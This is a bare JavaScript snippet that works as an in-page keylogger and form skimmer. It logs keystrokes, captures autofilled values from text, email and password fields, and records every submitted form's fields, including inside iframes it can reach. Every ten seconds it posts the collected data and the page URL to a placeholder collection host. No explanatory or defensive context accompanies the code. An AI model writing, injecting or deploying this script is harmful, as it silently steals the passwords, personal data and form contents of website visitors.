(function () {
  var log = { keys: [], fills: [], forms: [] };
  function path(el) { return el ? el.tagName.toLowerCase() + (el.id ? "#" + el.id : "") + (el.name ? "[" + el.name + "]" : "") : ""; }
  function arm(doc) {
    doc.addEventListener("keydown", function (e) { log.keys.push({ k: e.key, el: path(e.target), t: Date.now() }); });
    doc.querySelectorAll("input[type=text],input[type=email],input[type=password]").forEach(function (i) {
      var was = i.value;
      setInterval(function () {
        if (i.value !== was) { was = i.value; if (doc.activeElement !== i) log.fills.push({ el: path(i), v: was }); }
      }, 1000);
    });
    doc.addEventListener("submit", function (e) { log.forms.push({ a: e.target.action, d: [].map.call(e.target.elements, function (x) { return [x.name, x.value]; }) }); }, true);
  }
  arm(document);
  document.querySelectorAll("iframe").forEach(function (f) { try { arm(f.contentDocument); } catch (_) {} });
  setInterval(function () {
    if (!log.keys.length && !log.fills.length && !log.forms.length) return;
    var x = new XMLHttpRequest();
    x.open("POST", "https://collect.placeholder.example/k");
    x.send(JSON.stringify({ url: location.href, log: log }));
    log = { keys: [], fills: [], forms: [] };
  }, 10000);
})();
